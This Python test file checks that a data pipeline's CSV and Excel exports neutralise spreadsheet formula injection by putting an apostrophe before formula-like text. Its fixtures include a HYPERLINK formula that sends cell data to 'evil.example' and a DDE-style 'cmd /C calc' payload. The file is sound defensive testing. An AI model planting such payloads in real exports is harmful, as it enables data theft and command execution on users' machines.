"""Formula-like text (`=HYPERLINK(…)`, `+1`, `-1`, `@SUM`, tab, CR) in the CSV and XLSX files a
person opens: written behind an apostrophe (jippnas_orchestration.cells); JSON, Parquet and the
tables keep the values as submitted; numbers stay numbers. Issue 22, item 3."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
from dagster import AssetSelection
from openpyxl import load_workbook

from jippnas_orchestration import cells
from jippnas_orchestration.agencies.check import resolve_csv
from jippnas_orchestration.incremental import state
from jippnas_orchestration.jobs import SUBMISSION_SKIPS
from jippnas_orchestration.publication.parts import canonical, csv_rows, json_text
from jippnas_orchestration.publication.publish import candidate_content, publish
from jippnas_orchestration.reports import build_report
from jippnas_orchestration.reports.data import ReportData
from jippnas_orchestration.reports.workbook import (
    AGENCY_SHEET,
    HISTORY_SHEET,
    PENDING_SHEET,
    SIMILAR_SHEET,
    write_workbook,
)
from jippnas_orchestration.schema import ensure_schema
from jippnas_orchestration.submissions.intake import submit_files

from .helpers import formula_cells
from .submission_fixtures import doc
from .test_portal_parts import T0, dataset, stage

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
# one text per character a spreadsheet reads as the start of a formula
HOSTILE = [
    FORMULA,
    "+1 hari lebih cepat",
    "-1+1 tanpa spasi",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ALREADY = "'=1+1"  # already behind an apostrophe: one more, so the rendering stays one-to-one
SUBMISSION_RUN = AssetSelection.assets("innovation_change_log").downstream() - SUBMISSION_SKIPS


def formula_like(value) -> bool:
    return isinstance(value, str) and value != "" and value[0] in "=+-@\t\r"


def read_csv_cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# ---- the policy ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text):
    assert cells.safe_cell(text) == "'" + text
    assert cells.unescape(cells.safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", ["Layanan =daring", "'kutip", "", " =1", "JIP-0A", "3,16", None, -5, -0.25, 0, 2017]
)
def test_other_values_and_every_number_stay_as_they_are(value):
    assert cells.safe_cell(value) == value and type(cells.safe_cell(value)) is type(value)


def test_the_rendering_is_one_to_one():
    values = [*HOSTILE, ALREADY, "''=1", "'kutip", "kutip", "=1", "'=1", "", "-", "'-", "''-"]
    rendered = [cells.safe_cell(v) for v in values]
    assert len(set(rendered)) == len(set(values))
    assert cells.safe_cell(ALREADY) == "''=1+1"
    assert [cells.unescape(r) for r in rendered] == values
    assert not any(formula_like(r) for r in rendered)


def test_safe_frame_touches_text_columns_only():
    df = pd.DataFrame(
        {
            "title": pd.Series(["=1", "biasa", None], dtype=object),  # as `canonical` has it
            "note": ["@a", "b", None],  # pandas' own string type
            "delta": [-5, 3, -1],
            "share": [-0.5, 0.1, None],
        }
    )
    out = cells.safe_frame(df)
    assert out["title"].tolist() == ["'=1", "biasa", None]
    assert out["note"].fillna("").tolist() == ["'@a", "b", ""]
    assert out["note"].dtype == df["note"].dtype
    assert df["title"].tolist() == ["=1", "biasa", None]  # the input is left alone
    pd.testing.assert_series_equal(out["delta"], df["delta"])
    pd.testing.assert_series_equal(out["share"], df["share"])
    plain = df.iloc[[1]]
    assert cells.safe_frame(plain) is plain  # nothing to escape: no copy


def test_a_carriage_return_inside_a_text_cannot_start_a_row():
    """Python's csv leaves a bare CR unquoted when lines end in "\\n": a spreadsheet would begin a
    new row there, and `…\\r=HYPERLINK(…)` would be a formula again. Such a field is quoted."""
    df = canonical(dataset(n=20))
    df.loc[3, "summary"] = "Ringkasan\r" + FORMULA
    df.loc[5, "title"] = "\r=1+1"
    rendered = csv_rows(df)
    rows = list(csv.reader(io.StringIO(rendered, newline="")))
    assert len(rows) == len(df)
    column = list(df.columns)
    assert rows[3][column.index("summary")] == "Ringkasan\r" + FORMULA
    assert rows[5][column.index("title")] == "'\r=1+1"
    # the other rows are pandas' bytes, as before
    lines = rendered.split("\n")
    plain = df.drop(index=[3, 5])
    assert csv_rows(plain) == plain.to_csv(index=False, header=False)
    assert set(plain.to_csv(index=False, header=False).split("\n")) <= set(lines)


# ---- the portal by part -------------------------------------------------------------------------
def hostile_dataset(version: int = 0) -> pd.DataFrame:
    df = dataset(version=version)
    for k, text in enumerate(HOSTILE):  # rows 1..6: parts JIP-0b … JIP-0e and JIP-0a, JIP-0b
        df.loc[k + 1, "title"] = text
    df.loc[10, "summary"] = ALREADY if version else ALREADY[1:]
    df.loc[12, "summary"] = "-5"  # text that looks like a number is text
    return df


def test_portal_csv_escapes_and_json_parquet_keep_the_values(warehouse, tmp_path):
    ensure_schema(warehouse.engine)
    df = hostile_dataset()
    stage(warehouse, df, T0)
    manifest = publish(warehouse, candidate_content(warehouse), tmp_path, now=T0)
    portal = tmp_path / "portal"
    whole = canonical(df)
    by_id = {r["innovation_id"]: r for r in read_csv_cells(portal / "innovations.csv")}
    records = {r["innovation_id"]: r for r in json.loads((portal / "innovations.json").read_text())}
    parquet = pd.read_parquet(portal / "innovations.parquet").set_index("innovation_id")
    for row in whole.itertuples():
        for column in ("title", "summary"):
            value = getattr(row, column)
            written = by_id[row.innovation_id][column]
            assert written == ("" if value is None else cells.safe_cell(value))
            assert records[row.innovation_id][column] == value  # JSON: as submitted
            got = parquet.loc[row.innovation_id, column]
            assert (pd.isna(got) and value is None) or got == value  # Parquet: as submitted
    titles = set(whole["title"])
    assert set(HOSTILE) <= titles
    for text in HOSTILE:
        (iid,) = whole.loc[whole["title"] == text, "innovation_id"]
        assert by_id[iid]["title"] == "'" + text
    # numbers stay numbers: no apostrophe before a completeness or a year
    assert all(r["completeness"][:1].isdigit() for r in by_id.values())
    summary_12 = df.loc[12, "innovation_id"]
    assert by_id[summary_12]["summary"] == "'-5" and records[summary_12]["summary"] == "-5"
    # per part: the same escaping; each digest is the sha256 of the rows as written, and the
    # combined CSV is the header and the parts' rows put together
    combined_rows = []
    for part, entry in manifest["parts"].items():
        data = (portal / "parts" / f"{part}.csv").read_bytes()
        rows = data[data.index(b"\n") + 1 :]
        assert hashlib.sha256(rows).hexdigest() == entry["digest"]
        assert rows.decode() == csv_rows(whole[whole["innovation_id"].str.startswith(part)])
        combined_rows.append(rows)
        assert json.loads((portal / "parts" / f"{part}.json").read_text()) == json.loads(
            json_text(whole[whole["innovation_id"].str.startswith(part)].reset_index(drop=True))
        )
    csv_bytes = (portal / "innovations.csv").read_bytes()
    assert csv_bytes == csv_bytes[: csv_bytes.index(b"\n") + 1] + b"".join(combined_rows)
    assert hashlib.sha256(csv_bytes).hexdigest() == manifest["files"]["innovations.csv"]
    assert "=HYPERLINK" in csv_bytes.decode() and '\n"=' not in csv_bytes.decode()
    assert not any(
        formula_like(v) for r in read_csv_cells(portal / "innovations.csv") for v in r.values()
    )

    # `=1+1` becoming `'=1+1` is a change of content: its part is published anew (no collision)
    changed = hostile_dataset(version=1)
    stage(warehouse, changed, T0 + timedelta(hours=1))
    second = publish(warehouse, candidate_content(warehouse), tmp_path, now=T0 + timedelta(hours=1))
    assert second["checksum"] != manifest["checksum"]
    iid = changed.loc[10, "innovation_id"]
    assert {r["innovation_id"]: r for r in read_csv_cells(portal / "innovations.csv")}[iid][
        "summary"
    ] == "''=1+1"
    assert {r["innovation_id"]: r for r in json.loads((portal / "innovations.json").read_text())}[
        iid
    ]["summary"] == ALREADY


def test_parts_published_before_the_policy_are_rendered_anew_the_others_linked(
    warehouse, tmp_path, monkeypatch
):
    """A portal published by a release without the policy: the next publication re-renders exactly
    the parts holding formula-like text and links the others."""
    ensure_schema(warehouse.engine)
    df = dataset()  # rows k fall in part JIP-0a … JIP-0e by k % 5: hostile text in 0b and 0c only
    df.loc[1, "title"], df.loc[6, "summary"], df.loc[2, "title"] = FORMULA, "\t=1", "-1+1"
    with monkeypatch.context() as m:  # the rendering before this policy: text as it came
        m.setattr(cells, "safe_frame", lambda frame: frame)
        stage(warehouse, df, T0)
        old = publish(warehouse, candidate_content(warehouse), tmp_path, now=T0)
    assert any(
        v.startswith("=HYPERLINK")
        for r in read_csv_cells(tmp_path / "portal" / "innovations.csv")
        for v in r.values()
    )
    stage(warehouse, df, T0 + timedelta(hours=1))
    new = publish(warehouse, candidate_content(warehouse), tmp_path, now=T0 + timedelta(hours=1))
    assert new["checksum"] != old["checksum"]
    whole = canonical(df)
    hostile_parts = {
        iid[:6]
        for iid, title, summary in zip(whole["innovation_id"], whole["title"], whole["summary"])
        if formula_like(title) or formula_like(summary)
    }
    changed = {p for p in new["parts"] if new["parts"][p]["digest"] != old["parts"][p]["digest"]}
    assert changed == hostile_parts == {"JIP-0b", "JIP-0c"} and len(new["parts"]) == 5
    v1, v2 = (tmp_path / "portal_versions" / m["version"] / "parts" for m in (old, new))
    for part in new["parts"]:
        linked = (v1 / f"{part}.csv").stat().st_ino == (v2 / f"{part}.csv").stat().st_ino
        assert linked == (part not in changed)
    assert not any(
        formula_like(v)
        for r in read_csv_cells(tmp_path / "portal" / "innovations.csv")
        for v in r.values()
    )


# ---- the follow-up workbook ---------------------------------------------------------------------
def test_workbook_writes_formula_text_as_text_and_numbers_as_numbers(tmp_path):
    pending = pd.DataFrame(
        {
            "agency_id": ["35.10"] * len(HOSTILE),
            "agency_name": [FORMULA] * len(HOSTILE),
            "agency_type": ["kabupaten"] * len(HOSTILE),
            "innovation_id": [f"JIP-0a0000000{k}" for k in range(len(HOSTILE))],
            "title": HOSTILE,
            "completeness": [0.5] * len(HOSTILE),
            "missing": ["-ringkasan"] * len(HOSTILE),
        }
    )
    agencies = pd.DataFrame({"agency_id": ["35.10"], "kipp_total": [2]})  # fewer than pending
    history = pd.DataFrame(
        {
            "agency_id": ["35.10"],
            "agency_name": [FORMULA],
            "snapshot_date": ["2024-08-01"],
            "pending": [-3],
            "innovations": [6],
        }
    )
    replication = pd.DataFrame(
        {
            "agency_id": ["35.10"],
            "agency_name": ["Kab. X"],
            "innovation_id": ["JIP-0a00000000"],
            "title": [FORMULA],
            "why": ["pending"],
            "similar_innovation_id": ["JIP-0b00000000"],
            "similar_title": ["@SUM(1)"],
            "similar_agency_name": ["+Kota Y"],
            "score": [-0.25],
            "reason": ["-kata sama"],
        }
    )
    empty = pd.DataFrame()
    data = ReportData(
        "2024-08-02",
        empty,
        agencies,
        pending,
        pd.Series(dtype=float),
        empty,
        empty,
        agency_history=history,
        replication=replication,
    )
    path = tmp_path / "tindak-lanjut.xlsx"
    write_workbook(data, path)
    wb = load_workbook(path)
    for sheet in (PENDING_SHEET, AGENCY_SHEET, HISTORY_SHEET, SIMILAR_SHEET):
        for row in wb[sheet].iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and not formula_like(cell.value)
    ws = wb[PENDING_SHEET]
    header = [c.value for c in ws[1]]
    titles = [r[header.index("Judul Inovasi")] for r in ws.iter_rows(min_row=2)]
    # (XML reads a CR back as a line feed: "\r=1+1" returns as "\n=1+1", behind the apostrophe)
    assert [c.value for c in titles] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert all(c.data_type == "s" for c in titles)
    share = ws.cell(row=2, column=header.index("Kelengkapan") + 1)
    assert share.data_type == "n" and share.value == 0.5
    summary = wb[AGENCY_SHEET]
    (row,) = list(summary.iter_rows(min_row=2))
    assert row[1].value == "'" + FORMULA
    assert (row[4].data_type, row[4].value) == ("n", 2 - len(HOSTILE))  # a negative number
    hist = list(wb[HISTORY_SHEET].iter_rows(min_row=2))[0]
    assert hist[1].value == "'" + FORMULA and (hist[3].data_type, hist[3].value) == ("n", -3)
    sim = list(wb[SIMILAR_SHEET].iter_rows(min_row=2))[0]
    assert [c.value for c in sim[3:8]][::2] == ["'" + FORMULA, "JIP-0b00000000", "'+Kota Y"]
    assert (sim[8].data_type, sim[8].value, sim[9].value) == ("n", -0.25, "'-kata sama")


# ---- `jippnas agency resolve --csv` -------------------------------------------------------------
def test_agency_resolve_csv_escapes_the_names_it_echoes(tmp_path):
    names = tmp_path / "names.csv"
    names.write_text(
        f'name\n"{FORMULA.replace(chr(34), chr(34) * 2)}"\nDinas Kesehatan Kota Malang\n'
    )
    out = io.StringIO()
    assert resolve_csv(names, out, io.StringIO()) == 0
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[1]["name"] == "Dinas Kesehatan Kota Malang" and rows[1]["agency_id"]
    assert not any(formula_like(v) for r in rows for v in r.values())


# ---- through the pipeline -----------------------------------------------------------------------
@pytest.fixture(scope="module")
def pipeline(_baselines, request, tmp_path_factory):
    """The sample pipeline on SQLite (tests/baselines.py), then a submission run carrying
    formula-like text."""
    mp = pytest.MonkeyPatch()
    sample = _baselines.copy(
        "sqlite", request=request, dest=tmp_path_factory.mktemp("formula"), mp=mp
    )
    wh, out, run = sample.wh, sample.out, sample.run
    h = wh.read_sql(
        "SELECT innovation_id, agency_id FROM harmonized_innovations ORDER BY innovation_id"
    )
    picked = h.iloc[:: max(1, len(h) // 8)].head(len(HOSTILE) + 1)
    texts = [*HOSTILE, ALREADY]
    docs = [
        doc(
            innovation={"innovation_id": r.innovation_id},
            agency_id=r.agency_id,
            changes={"summary": text, "outcomes": text, "replication_count": 3},
        )
        for r, text in zip(picked.itertuples(), texts)
    ]
    path = out / "formula-submissions.json"
    path.write_text(json.dumps(docs))
    assert submit_files([path], io.StringIO(), wh) == 0
    result = run(selection=SUBMISSION_RUN, raise_on_error=False)
    yield wh, out, run, result, dict(zip(picked["innovation_id"], texts))
    mp.undo()


@pytest.mark.slow
def test_submitted_formula_text_is_published_escaped_in_csv_and_as_sent_in_json_parquet(pipeline):
    wh, out, _, result, sent = pipeline
    failed = [c for c in result.get_asset_check_evaluations() if not c.passed]
    assert result.success and not failed
    (event,) = result.asset_materializations_for_node("portal_candidate")
    assert event.metadata["mode"].value == "incremental"
    states = wh.read_sql("SELECT state, COUNT(*) AS n FROM innovation_submissions GROUP BY state")
    assert dict(zip(states["state"], states["n"])) == {"accepted": len(sent)}
    portal = out / "portal"
    stored = wh.read_sql("SELECT innovation_id, summary, outcomes FROM portal_innovations")
    stored = stored.set_index("innovation_id")
    by_id = {r["innovation_id"]: r for r in read_csv_cells(portal / "innovations.csv")}
    records = {r["innovation_id"]: r for r in json.loads((portal / "innovations.json").read_text())}
    parquet = pd.read_parquet(portal / "innovations.parquet").set_index("innovation_id")
    for iid, text in sent.items():
        kept = stored.loc[iid, "summary"]  # the value as harmonized (scrubbed of personal data)
        assert kept.strip() == text.strip()
        assert records[iid]["summary"] == kept and records[iid]["outcomes"] == kept  # JSON
        assert parquet.loc[iid, "summary"] == kept and parquet.loc[iid, "outcomes"] == kept
        assert by_id[iid]["summary"] == cells.safe_cell(kept) == by_id[iid]["outcomes"]
        if formula_like(kept):
            assert by_id[iid]["summary"] == "'" + kept
        assert by_id[iid]["replication_count"] == "3"  # numbers as numbers
        rows = {r["innovation_id"]: r for r in read_csv_cells(portal / "parts" / f"{iid[:6]}.csv")}
        assert rows[iid]["summary"] == by_id[iid]["summary"]
    assert by_id[next(i for i, t in sent.items() if t == FORMULA)]["summary"] == "'" + FORMULA
    assert by_id[next(i for i, t in sent.items() if t == ALREADY)]["summary"] == "''=1+1"
    assert not any(
        formula_like(v) for r in read_csv_cells(portal / "innovations.csv") for v in r.values()
    )


@pytest.mark.slow
def test_formula_title_reaches_the_workbook_as_text(pipeline):
    wh, out, _, _, _ = pipeline
    victim = wh.read_sql(
        "SELECT innovation_id FROM harmonized_innovations WHERE sources LIKE '%KIPP%' AND "
        "update_status = 'pending' ORDER BY innovation_id LIMIT 1"
    ).iloc[0, 0]
    title = wh.read_sql(
        "SELECT title FROM harmonized_innovations WHERE innovation_id = :i", params={"i": victim}
    ).iloc[0, 0]
    update = "UPDATE harmonized_innovations SET title = :t WHERE innovation_id = :i"
    wh.execute(update, {"t": FORMULA, "i": victim})  # as a KIPP record would bring it
    try:
        build_report(wh, out)
    finally:
        wh.execute(update, {"t": title, "i": victim})
    book = out / "reports" / "tindak-lanjut.xlsx"
    rows = load_workbook(book, read_only=True)[PENDING_SHEET].iter_rows()
    header = [c.value for c in next(rows)]
    (row,) = [r for r in rows if r[header.index("ID Inovasi")].value == victim]
    cell = row[header.index("Judul Inovasi")]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA
    assert row[header.index("Kelengkapan")].data_type == "n"
    assert formula_cells(book) == []


@pytest.mark.slow
def test_a_candidate_built_with_another_rendering_is_rebuilt_in_full(pipeline, monkeypatch):
    wh, out, run, _, _ = pipeline
    monkeypatch.setenv("JIPPNAS_OUTPUT_DIR", str(out))
    before = (out / "portal" / "manifest.json").read_text()
    with wh.transaction() as tx:  # a state recorded by an older release
        kept = state.read(tx, "portal_candidate")
        state.write(tx, "portal_candidate", kept | {"params": kept["params"] | {"rendering": None}})
    again = run(selection=SUBMISSION_RUN, raise_on_error=False)
    assert again.success
    (event,) = again.asset_materializations_for_node("portal_candidate")
    assert event.metadata["mode"].value == "full"
    assert "rendering" in event.metadata["mode_reason"].value
    (published,) = again.asset_materializations_for_node("portal_innovations")
    assert published.metadata["unchanged"].value is True
    assert (out / "portal" / "manifest.json").read_text() == before
